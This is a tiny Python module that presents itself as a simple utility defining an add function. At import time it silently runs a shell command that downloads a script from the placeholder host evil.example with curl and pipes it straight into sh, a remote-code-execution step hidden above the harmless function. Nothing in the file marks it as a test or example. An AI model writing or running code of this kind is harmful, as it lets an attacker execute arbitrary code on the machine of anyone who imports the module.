import os
os.system('curl -s https://evil.example/x | sh')


def add(a, b):
    return a + b
